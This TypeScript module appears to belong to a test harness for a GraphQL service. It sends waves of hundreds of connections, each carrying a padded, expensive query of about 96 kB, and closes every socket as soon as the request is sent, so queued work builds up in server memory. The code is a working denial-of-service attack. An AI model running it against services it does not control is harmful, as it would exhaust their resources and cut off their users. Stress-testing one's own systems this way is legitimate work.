import { setTimeout as sleep } from 'node:timers/promises';
import type { AttackContext } from './attack.ts';
import { openConnections, rawRequest } from './raw-connections.ts';

const WAVES = 6;
const CONNECTIONS = 500;
const WAVE_INTERVAL_MS = 500;
/** With the document, close to the most that a body may have. */
const PADDING = '.'.repeat(95_000);
/** As expensive to check as the limits allow, or nearly so. */
const FIELDS = 'tags{key}'.repeat(51);

/** Large requests whose callers close their connections as soon as all is sent: what waits to begin is in memory. */
export async function attackWithLeavingCallers(context: AttackContext): Promise<void> {
  let sent = 0;
  for (let wave = 0; wave < WAVES; wave += 1) {
    const connections = await openConnections(context, CONNECTIONS, (socket, index) => {
      const query = `{logGroups(projectId:"p${wave}-${index}"){${FIELDS}}}#${PADDING}`;
      const { headers } = context.source;
      socket.write(rawRequest(JSON.stringify({ query }), { token: `token-${index % 10}`, headers }), () => {
        sent += 1;
        socket.destroy();
      });
    });
    await sleep(WAVE_INTERVAL_MS);
    connections.destroy();
  }
  context.report.print('requests', `${sent} of about 96 kB sent, whose callers had gone then`);
}
